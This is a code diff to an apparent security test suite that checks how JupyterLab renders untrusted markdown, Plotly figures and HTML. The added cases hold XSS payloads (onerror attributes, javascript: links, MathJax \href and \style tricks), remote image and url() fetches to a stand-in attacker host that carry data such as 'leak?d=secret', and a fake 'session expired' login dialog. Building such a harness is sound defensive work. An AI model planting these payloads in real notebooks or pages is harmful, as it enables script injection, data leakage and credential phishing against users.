@@ -94,15 +94,23 @@ def _figure(**layout) -> dict:
 
 
 def _image(source: str) -> dict:
-    return _figure(images=[{"source": source, "xref": "paper", "yref": "paper", "x": 0, "y": 1,
-                            "sizex": 0.5, "sizey": 0.5}])
+    return _figure(images=[_image_item(source)])
 
 
-def _map(style: dict, text: bool = False) -> dict:
+def _map(style, text: bool = False, **subplot) -> dict:
     trace = {"type": "scattermap", "lat": [59.9], "lon": [10.7], "mode": "markers+text" if text else "markers"}
     if text:
         trace["text"] = ["Oslo"]
-    return {"data": [trace], "layout": {"map": {"style": style, "center": {"lat": 59.9, "lon": 10.7}, "zoom": 3}}}
+    return {"data": [trace],
+            "layout": {"map": {"style": style, "center": {"lat": 59.9, "lon": 10.7}, "zoom": 3, **subplot}}}
+
+
+def _image_item(source: str) -> dict:
+    return {"source": source, "xref": "paper", "yref": "paper", "x": 0, "y": 1, "sizex": 0.5, "sizey": 0.5}
+
+
+_HAS_DIALOG_CLASS = ("out => out.querySelector('.jp-Dialog, .jp-Dialog-content') ? "
+                     "'an output element carries the class jp-Dialog' : ''")
 
 
 def _plotly(id_, what, figure, **kw):
@@ -128,6 +136,18 @@ _MD = (
         f"![x]({evil('md_remote_image', 'leak?d=secret', 'https://')})"),
     _md("md_ref_remote_image", "reference definition to a remote image (unit-test payload)",
         f"[x]: {evil('md_ref_remote_image', 'p.png', 'https://')}\n\n![y][x]"),
+    _md("md_math_attr_relative", "math span in an attribute after a relative destination",
+        f"![x](a$\" onerror=\"{flag('md_math_attr_relative')}//$)"),
+    _md("md_list_image", "remote image inside a list item",
+        f"- ![a]({evil('md_list_image', 'l.png', 'https://')})\n- item"),
+    _md("md_escaped_bracket_image", "image text with an escaped bracket",
+        f"![a \\] b]({evil('md_escaped_bracket_image', 'b.png', 'https://')})"),
+    _md("md_ref_angle", "reference definition with an <angle> destination",
+        f"[x]: <{evil('md_ref_angle', 'angle.png', 'https://')}>\n\n![y][x]"),
+    _md("md_angle_destination_space", "inline <angle> destination holding a space",
+        f"![y](<{evil('md_angle_destination_space', 's p.png', 'https://')}>)"),
+    _md("md_mathjax_style", "TeX \\style with a url() in display math (MathJax's html package)",
+        f"$$\\style{{background:url({evil('md_mathjax_style', 'b.png')})}}{{x}}$$"),
     _md("md_script", "raw <script> in markdown", f"<script>{flag('md_script')}</script>"),
     _md("md_raw_img_onerror", "raw <img onerror> in markdown", f"<img src=x onerror=\"{flag('md_raw_img_onerror')}\">"),
     _md("md_javascript_link", "javascript: link (click)", f"[click](javascript:{flag('md_javascript_link')})",
@@ -151,6 +171,19 @@ _PLOTLY = (
             _image(f"ht\ttp://{EVIL}/plotly_image_tab_in_scheme/i.png")),
     _plotly("plotly_image_remote", "layout image source https:// (unit-test payload)",
             _image(evil("plotly_image_remote", "i.png", "https://"))),
+    _plotly("plotly_template_image", "layout image hidden in the figure's template",
+            _figure(template={"layout": {"images": [
+                {**_image_item(evil("plotly_template_image", "i.png", "http://")), "name": "logo"}]}})),
+    _plotly("plotly_image_trace_source", "image trace whose source is a URL",
+            {"data": [{"type": "image", "source": evil("plotly_image_trace_source", "i.png", "http://")}], "layout": {}}),
+    _plotly("plotly_updatemenu_image", "update-menu button that relayouts a remote image in (click)",
+            _figure(updatemenus=[{"type": "buttons", "buttons": [
+                {"label": "show", "method": "relayout",
+                 "args": [{"images": [_image_item(evil("plotly_updatemenu_image", "i.png", "http://"))]}]}]}]),
+            click="g.updatemenu-button"),
+    _plotly("plotly_map_layers", "map layer whose raster source is remote",
+            _map("white-bg", layers=[{"sourcetype": "raster", "below": "traces",
+                                      "source": [evil("plotly_map_layers", "{z}/{x}/{y}.png", "http://")]}])),
     _plotly("plotly_geojson_url", "choroplethmap trace geojson given as a URL",
             {"data": [{"type": "choroplethmap", "geojson": evil("plotly_geojson_url", "g.json", "http://"),
                        "locations": ["a"], "z": [1]}], "layout": {"map": {"style": "white-bg"}}}),
@@ -191,6 +224,17 @@ _HTML = (
           f"<a href=' JaVaScRiPt:{flag('html_a_javascript_mixed_case')};void 0'>click me</a>", click="a"),
     _html("html_math_xlink", "<math><mi xlink:href=javascript:> (click)",
           f"<math><mi xlink:href=\"javascript:{flag('html_math_xlink')}\">x</mi></math>", click="mi"),
+    _html("html_mathjax_style", "TeX \\style with a url() in HTML math (MathJax's html package)",
+          f"<p>$$\\style{{background:url({evil('html_mathjax_style', 'b.png')})}}{{x}}$$</p>"),
+    _html("html_mathjax_class", "TeX \\class putting JupyterLab's dialog class on typeset math",
+          "<p>$\\class{jp-Dialog}{x}$</p>", probe=_HAS_DIALOG_CLASS),
+    _html("html_mathjax_href", "TeX \\href to javascript: in HTML math (click)",
+          f"<p>$\\href{{javascript:{flag('html_mathjax_href')}}}{{x}}$</p>", click="a"),
+    _html("html_table_background", "<table background>",
+          f"<table background=\"{evil('html_table_background', 't.png')}\"><tr><td>x</td></tr></table>"),
+    _html("html_video_audio", "<video poster> and <audio src>",
+          f"<video poster=\"{evil('html_video_audio', 'p.png')}\"></video>"
+          f"<audio src=\"{evil('html_video_audio', 'a')}\" preload=\"auto\"></audio>"),
     _html("html_img_remote", "remote <img>", f"<img src=\"{evil('html_img_remote', '?secret=1', 'https://')}\">"),
     _html("html_img_srcset", "remote <img srcset>", f"<img srcset=\"{evil('html_img_srcset', 'a.png')} 1x\">"),
     _html("html_style_attribute_url", "style attribute with a remote url()",
@@ -208,8 +252,7 @@ _HTML = (
           "<button type=\"submit\">send</button></form>", click="button"),
     _html("html_dialog_class", "UI redress: HTML wearing JupyterLab's dialog classes",
           "<div class=\"jp-Dialog\"><div class=\"jp-Dialog-content\">Your session expired. Log in again.</div></div>",
-          probe="out => out.querySelector('.jp-Dialog, .jp-Dialog-content') ? "
-                "'an output element carries the class jp-Dialog' : ''"),
+          probe=_HAS_DIALOG_CLASS),
     _html("html_global_style", "UI redress: a <style> block restyles JupyterLab itself",
           "<style>#jp-top-panel{visibility:hidden}</style><p>styled</p>",
           probe="out => getComputedStyle(document.querySelector('#jp-top-panel')).visibility === 'hidden' ? "
@@ -244,5 +287,10 @@ INERT_IN_JUPYTERLAB: dict[str, str] = {
     "plotly_annotation_javascript": "plotly.js drops javascript: link targets itself",
     "html_svg_onload": "an <svg onload> inserted through innerHTML never fires its load event",
     "html_math_xlink": "Chromium does not follow links on MathML elements",
+    "md_mathjax_style": "JupyterLab 4.6's MathJax typesets the math but applies no \\style",
+    "html_mathjax_style": "JupyterLab 4.6's MathJax typesets the math but applies no \\style",
+    "html_mathjax_class": "JupyterLab 4.6's MathJax typesets the math but applies no \\class",
+    "html_mathjax_href": "JupyterLab 4.6's MathJax typesets the math but makes no \\href link",
+    "plotly_image_trace_source": "plotly.js did not fetch an image trace's remote source",
 }
 assert set(INERT_IN_JUPYTERLAB) <= {a.id for a in ATTACKS}
